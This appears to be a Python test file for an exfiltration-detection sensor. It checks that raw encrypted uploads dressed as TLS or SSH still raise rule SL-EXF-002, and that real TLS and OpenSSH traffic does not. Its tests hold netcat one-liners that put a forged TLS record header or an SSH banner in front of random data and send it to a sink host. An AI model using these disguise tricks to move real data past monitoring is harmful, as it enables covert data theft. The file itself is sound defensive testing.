"""Raw encrypted streams dressed as the protocol their port expects.

TLS: a raw encrypted stream to port 443 dressed as TLS with five bytes.

TLS on 443 is expected traffic, so SL-EXF-002 speaks about port 443 only
when the stream is not TLS. The sensor named a socket TLS when its first
bytes looked like any TLS record header, so an intruder who read that put
`17 03 03 40 00` (application data, 16 KiB) in front of its ciphertext and
the upload passed for TLS: no alert. Every TLS connection starts with a
hello in a handshake record; now only that names a socket TLS.

Beside it, a real TLS upload (openssl s_client, a TLS 1.3 ClientHello) to
the same port from another container stays TLS: no SL-EXF-002 for it.

SSH: an identification line (`SSH-2.0-...`) in a packet of its own, then
the raw stream, to an SSH port. The line named the socket SSH for good;
now the socket's next packet must start SSH's key exchange (KEXINIT, in
cleartext in every SSH connection), else the socket is raw from there. And
the real OpenSSH client, which sends its line alone, is still SSH."""

from __future__ import annotations

import contextlib
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

from emulation.scenarios import S_CLIENT
from tests.privileged.harness import SINK_IP, Docker, SensorProc, SinkNet, action, cid_of, run_container

UPLOAD = 3_000_000
# application data, TLS 1.2, 16,384 bytes: a record header, in octal for
# busybox printf
FAKE_HEADER = r"\027\003\003\100\000"


def _exf2(d: dict[str, Any], cid: str) -> bool:
    return d["event"]["kind"] == "alert" and d.get("rule", {}).get("id") == "SL-EXF-002" and cid_of(d) == cid


def test_a_tls_record_header_does_not_pass_a_raw_stream_for_tls(base: Path, docker: Docker, net: SinkNet) -> None:
    s = SensorProc(base, docker.sock, name="tlslook")
    s.start()
    try:
        real = run_container(
            docker,
            net,
            f"(openssl rand {UPLOAD}; sleep 2) | {S_CLIENT} -connect {SINK_IP}:443 >/dev/null 2>&1",
            wait=True,
        )
        fake = run_container(
            docker, net, f"{{ printf '{FAKE_HEADER}'; openssl rand {UPLOAD}; }} | nc -w 5 {SINK_IP} 443", wait=True
        )
        a = s.wait_for(lambda d: _exf2(d, fake), what="SL-EXF-002 for the dressed-up stream", timeout=20)
        ev = a["sluice"]["evidence"]
        assert ev["kind"] == "raw_encrypted_stream" and ev["protocol_hint"] is None, ev
        assert ev["bytes"] >= UPLOAD // 2, ev
        assert a["destination"]["port"] == 443
        # the sink got the stream (the kernel let it out; the alert is the answer)
        got = [r for r in net.received() if r.get("proto") == "tcp" and r.get("port") == 443]
        assert any(r["bytes"] >= UPLOAD for r in got), got
        # the real TLS upload: named TLS, no SL-EXF-002
        flows = [
            d
            for d in s.docs()
            if d["event"]["action"] == "flow_summary" and cid_of(d) == real and d["destination"]["port"] == 443
        ]
        assert flows, "no flow summary for the real TLS upload"
        assert sum(d["source"]["bytes"] for d in flows) >= UPLOAD
        assert not [d for d in s.docs() if _exf2(d, real)], "a real TLS upload to 443 raised SL-EXF-002"
        assert {f["network"].get("protocol") for f in flows} >= {"tls"}, [f["network"] for f in flows]
    finally:
        assert s.stop() == 0, s.stderr_text()


SSH_PORT = 9004  # a sink port, made an SSH port for the test
SSH_PORTS = f"[rules.SL-EXF-002]\nssh_ports = [22, 2222, {SSH_PORT}]\n"


def test_an_ssh_banner_does_not_pass_a_raw_stream_for_ssh(base: Path, docker: Docker, net: SinkNet) -> None:
    s = SensorProc(base, docker.sock, name="sshlook", extra_config=SSH_PORTS)
    s.start()
    try:
        # the banner, a pause (its own packet, as a real client sends it), the stream
        fake = run_container(
            docker,
            net,
            f"{{ echo 'SSH-2.0-OpenSSH_9.6'; sleep 1; openssl rand {UPLOAD}; }} | nc -w 5 {SINK_IP} {SSH_PORT}",
            wait=True,
        )
        a = s.wait_for(lambda d: _exf2(d, fake), what="SL-EXF-002 for the stream behind a banner", timeout=20)
        ev = a["sluice"]["evidence"]
        assert ev["kind"] == "raw_encrypted_stream" and ev["protocol_hint"] is None, ev
        assert ev["bytes"] >= UPLOAD // 2, ev
        assert a["destination"]["port"] == SSH_PORT
    finally:
        assert s.stop() == 0, s.stderr_text()


BANNER_SERVER = """
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(1)
print("ready", flush=True)
c, _ = s.accept()
c.sendall(b"SSH-2.0-OpenSSH_9.2p1 lab\\r\\n")
data = b""
while len(data) < 4096:
    more = c.recv(65536)
    if not more:
        break
    data += more
print(len(data), flush=True)
"""


def test_the_real_openssh_client_is_named_ssh(base: Path, net: SinkNet, docker: Docker) -> None:
    """No false positive on the SSH client most people run: OpenSSH sends
    its identification line in a packet of its own, reads the server's,
    then sends KEXINIT. The host's `ssh` against a server that sends a line
    and listens (in the lab's network namespace, over its loopback): the
    flow is named SSH, and nothing is counted unverified."""
    port = 2222
    s = SensorProc(base, docker.sock, name="openssh")
    s.start()
    srv = subprocess.Popen(
        ["ip", "netns", "exec", net.ns, sys.executable, "-c", BANNER_SERVER, str(port)],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert srv.stdout is not None and srv.stdout.readline().strip() == "ready"
        # the client waits for the server's KEXINIT, which never comes
        with contextlib.suppress(subprocess.TimeoutExpired):
            subprocess.run(
                ["ip", "netns", "exec", net.ns, "ssh", "-p", str(port), "-o", "BatchMode=yes"]
                + ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "lab@127.0.0.1", "true"],
                capture_output=True,
                timeout=4,
                check=False,
            )
        got = int(srv.stdout.readline().strip() or 0)
        assert got > 200, f"the client sent {got} bytes: no KEXINIT"

        def ssh_flow(d: dict[str, Any]) -> bool:
            dest = d.get("destination", {})
            return bool(action(d) == "flow_summary" and dest.get("port") == port and dest.get("ip") == "127.0.0.1")

        flow = s.wait_for(ssh_flow, what="the ssh client's flow", timeout=15)
        assert flow["network"].get("protocol") == "ssh", flow["network"]
        assert json.loads(s.status("--json").stdout)["counters"]["ssh_unverified"] == 0
    finally:
        srv.kill()
        srv.wait()
        assert s.stop() == 0, s.stderr_text()
